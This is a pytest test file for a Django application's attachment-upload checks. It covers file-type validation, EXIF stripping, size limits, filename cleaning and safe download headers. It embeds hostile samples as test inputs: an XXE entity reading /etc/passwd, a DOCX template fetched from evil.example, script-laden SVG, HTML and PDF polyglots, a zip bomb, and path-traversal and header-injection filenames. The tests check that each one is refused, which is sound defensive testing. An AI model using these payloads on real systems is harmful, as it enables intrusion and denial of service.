"""What is let in as an attachment, and what is not."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from PIL import Image

from placet.stages.contributions.attachments.checking import checked_file, cleaned_file_name
from placet.stages.contributions.attachments.serving import download_response
from placet.stages.contributions.models import Attachment
from tests.stages.contributions.files import DOCX_TYPES, changed_archive, docx, image, odt, pdf, uploaded


def refusal(content: bytes, name: str = "paper.pdf") -> str:
    with pytest.raises(ValidationError) as refused:
        checked_file(uploaded(content, name))
    (sentence,) = refused.value.message_dict["file"]
    return sentence


@pytest.mark.parametrize(
    ("content", "kind"),
    [(pdf(), "pdf"), (docx(), "docx"), (odt(), "odt")],
    ids=["pdf", "docx", "odt"],
)
def test_documents_are_kept_as_they_are(content: bytes, kind: str) -> None:
    checked = checked_file(uploaded(content, f"A paper.{kind}"))
    assert (checked.kind, checked.name, checked.content) == (kind, f"A paper.{kind}", content)
    assert checked.size == len(content)
    assert len(checked.digest) == 64


@pytest.mark.parametrize("image_format", ["PNG", "JPEG", "WEBP"])
def test_images_are_drawn_anew_without_what_they_carried(image_format: str) -> None:
    exif = Image.Exif()
    exif[0x010E] = "taken at 52.1 N, 4.3 E"
    content = image(image_format, exif=exif)
    checked = checked_file(uploaded(content, "photo"))
    assert checked.kind == Attachment.Kind.IMAGE
    assert b"52.1 N" in content
    assert b"52.1 N" not in checked.content
    with Image.open(io.BytesIO(checked.content)) as kept:
        assert (kept.format, kept.size, dict(kept.getexif())) == (image_format, (60, 40), {})


def test_a_large_image_is_shrunk() -> None:
    checked = checked_file(uploaded(image("JPEG", (5000, 1000)), "wide.jpg"))
    with Image.open(io.BytesIO(checked.content)) as kept:
        assert kept.size == (4000, 800)


@pytest.mark.parametrize(
    ("content", "name", "says"),
    [
        (b"", "paper.pdf", "empty"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", "a.png", "none of them"),
        (b"<!doctype html><script>alert(1)</script>", "paper.pdf", "none of them"),
        (b"MZ\x90\x00 not a paper", "paper.docx", "none of them"),
        (b"<html><script>1</script></html>\n" + pdf(), "paper.pdf", "none of them"),
        (b"%PDF-1.7\n<html><script>alert(1)</script>" + pdf()[9:], "paper.pdf", "two things at once"),
        (b"%PDF-1.7\nnothing of the kind", "paper.pdf", "damaged"),
        (pdf(password="secret"), "paper.pdf", "password"),
        (pdf(script="app.alert(1)"), "paper.pdf", "macros"),
        (docx()[:-40], "paper.docx", "damaged"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "paper.docx", "password"),
        (image()[:60], "a.png", "damaged"),
        (b"\x89PNG\r\n\x1a\n" + bytes(40), "a.png", "damaged"),
    ],
    ids=[
        "0 bytes",
        "SVG renamed PNG",
        "HTML renamed PDF",
        "program renamed DOCX",
        "HTML before a PDF",
        "PDF that is a page",
        "no PDF",
        "encrypted",
        "scripted PDF",
        "cut off",
        "old or locked Office",
        "cut off image",
        "image of nothing",
    ],
)
def test_refused(content: bytes, name: str, says: str) -> None:
    assert says in refusal(content, name)


def test_macros_are_refused() -> None:
    assert "macros" in refusal(changed_archive(docx(), word__vbaProject_dot_bin=b"\0"), "a.docx")
    assert "macros" in refusal(changed_archive(odt(), Basic__Standard__Module1_dot_xml=b"<a/>"), "a.odt")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_document_that_names_an_external_entity_is_refused(encoding: str) -> None:
    hostile = (
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&x;</w:document>'
    ).encode(encoding)
    content = changed_archive(docx(), word__document_dot_xml=hostile)
    assert "from elsewhere" in refusal(content, "a.docx")


def test_a_template_from_elsewhere_is_refused() -> None:
    hostile = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        b'Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    content = changed_archive(docx(), word___rels__settings_dot_xml_dot_rels=hostile)
    assert "from elsewhere" in refusal(content, "a.docx")


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES)
        archive.writestr("word/document.xml", b"<w/>")
        archive.writestr("word/media/image1.png", bytes(300_000_000))
    assert len(bomb.getvalue()) < 400_000
    assert "unpacks" in refusal(bomb.getvalue(), "a.docx")


def test_an_image_of_too_many_pixels_is_refused() -> None:
    made = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(made, "PNG")
    assert len(made.getvalue()) < 100_000
    assert "too large" in refusal(made.getvalue(), "a.png")


def test_too_many_bytes_are_refused_unread(settings: object) -> None:
    settings.ATTACHMENT_MAX_BYTES = 1_000_000  # type: ignore[attr-defined]
    assert "1 megabytes" in refusal(pdf() + bytes(1_000_000))


@pytest.mark.parametrize(
    ("name", "cleaned"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\me\\Paper.PDF", "Paper.PDF"),
        ("paper.pdf.html", "paper.pdf.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie x.pdf"),
        ("ann\u202efdp.exe", "annfdp.pdf"),
        ("", "file.pdf"),
        (".pdf", "pdf.pdf"),
        ("é" * 300 + ".pdf", "é" * 116 + ".pdf"),
    ],
)
def test_names_lose_what_could_harm(name: str, cleaned: str) -> None:
    assert cleaned_file_name(name, Attachment.Kind.PDF) == cleaned


def test_a_file_is_given_back_as_a_download_and_nothing_else() -> None:
    response = download_response(uploaded(b"<html>"), "Étude “une”.pdf")
    assert response.content == b"<html>"
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''%C3%89tude")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
